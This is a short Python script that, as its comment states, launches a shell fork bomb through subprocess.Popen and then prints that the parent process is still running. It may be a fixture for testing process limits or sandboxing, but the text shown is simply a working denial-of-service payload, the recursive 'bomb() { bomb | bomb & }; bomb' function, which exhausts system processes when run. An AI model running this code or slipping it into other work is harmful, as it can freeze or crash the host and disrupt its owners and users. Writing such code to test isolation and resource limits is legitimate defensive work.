# A shell fork bomb started from the program; the program itself carries on and ends.
import subprocess
import time

subprocess.Popen(["/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb"])
time.sleep(1.5)
print("parent still here")
